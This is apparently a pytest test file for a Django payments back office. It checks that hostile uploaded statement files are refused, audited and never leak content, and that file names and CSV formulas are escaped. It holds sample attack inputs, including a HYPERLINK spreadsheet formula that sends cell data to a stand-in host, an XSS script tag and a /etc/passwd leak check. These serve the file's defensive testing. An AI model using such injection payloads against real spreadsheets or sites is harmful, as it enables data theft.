"""Every hostile file through the page where files are brought and through the command line: said, and nothing kept."""

import json
import time
from html import unescape
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.http import HttpResponse
from django.test import Client
from django.urls import reverse

from repaid.access.actors import Actor
from repaid.access.models import AuditRecord, User
from repaid.access.queries import organisation_of
from repaid.access.rights import all_rights
from repaid.access.tests.people import member
from repaid.contracts.tests.lender import LAUNCH, lender, pln
from repaid.interfaces.ui.testing import page_text
from repaid.payments.commands.entering import register_payment
from repaid.payments.formats.tests.shared import SHARED, shared
from repaid.payments.models import BankFile, Payment, Statement
from repaid.settling.jobs import take_in_file
from repaid.settling.models import Intake
from tests.cli.documents import run

pytestmark = pytest.mark.django_db
FOLDER = SHARED / "hostile"
MANIFEST = json.loads((FOLDER / "MANIFEST.json").read_text()) if FOLDER.exists() else {}
TOLD_OF = {"eicar_description.json", "filenames.json"}
"""Descriptions, not files to be brought."""

SECONDS_MAX = 5.0
"""A page with its database on a busy machine; that reading takes less than one is tested at the readers."""


@pytest.fixture
def by(db: None) -> Actor:
    return lender()


@pytest.fixture
def browser(by: Actor) -> Client:
    client = Client()
    client.force_login(User.objects.get(pk=member(by, "Ewa Przykładowa", tuple(all_rights())).user_id))
    client.cookies["staff_session"] = client.cookies.pop("sessionid").value
    return client


def refused_of(browser: Client, address: str, by: Actor) -> HttpResponse:
    """The answer to taking a file in: a short one is refused at once, a long one by the worker on its own page."""
    answer = browser.post(f"{address}/take-in", {})
    if answer.status_code == 422:
        return answer
    intake = Intake.objects.get()
    take_in_file(organisation=organisation_of(by).code, intake=intake.pk)
    answer = browser.get(reverse("backoffice:intake", args=[intake.pk]))
    assert "Nothing was taken in" in page_text(answer)
    return answer


@pytest.mark.parametrize("name", sorted(set(MANIFEST) - TOLD_OF))
def test_it_is_refused_in_words_at_both_doors(browser: Client, by: Actor, name: str) -> None:
    """What the manifest asks of imports: refused fast, in words, audited, no partial import, no other file told of."""
    path = shared(f"hostile/{name}")
    begun = time.monotonic()
    page = browser.post(
        reverse("backoffice:statement_bring"), {"file": SimpleUploadedFile(name, path.read_bytes())}, follow=True
    )
    refused = refused_of(browser, page.redirect_chain[-1][0], by)
    assert time.monotonic() - begun < SECONDS_MAX
    assert page.status_code == 200
    assert "What is to be said of the file" in page_text(page)

    done = run("import", "statement", path, "--json")
    assert done.exit_code == 1
    assert json.loads(done.stdout)["findings"]
    told = page_text(page) + page_text(refused) + done.stdout + done.stderr
    assert Path("/etc/passwd").read_text()[:20] not in told
    assert not Payment.objects.exists()
    assert not Statement.objects.exists()
    assert AuditRecord.objects.filter(command="payments.keep_file").exists()


def test_names_of_files_are_words_and_never_paths(browser: Client) -> None:
    for name in json.loads(shared("hostile/filenames.json").read_text()):
        content = f"not a statement {name!r}".encode()
        file = SimpleUploadedFile("placeholder", content)
        file._name = name
        page = browser.post(reverse("backoffice:statement_bring"), {"file": file}, follow=True)
        assert page.status_code in (200, 422)
        assert b"<script>alert(1)</script>" not in page.content
    assert all(len(row.name) <= 200 and "\0" not in row.name for row in BankFile.objects.all())


def test_formulas_are_words_on_the_screen_and_harmless_in_a_file(by: Actor, browser: Client) -> None:
    """The names of csv_injection.csv as payers: kept as they are, escaped where a spreadsheet would run them."""
    text = shared("hostile/csv_injection.csv").read_text()
    names = ['=HYPERLINK("http://x.test?"&A1,"click")', "-100.00", "+48 600 100 200"]
    assert all(name.replace('"', '""') in text for name in names)
    for name in names:
        register_payment(by=by, amount=pln("10.00"), value_date=LAUNCH, payer=name)
    page = unescape(browser.get(reverse("backoffice:money")).content.decode())
    exported = browser.get(reverse("backoffice:money"), {"export": "csv"}).getvalue().decode()
    for name in names:
        assert name in page
        assert "'" + name.replace('"', '""') in exported
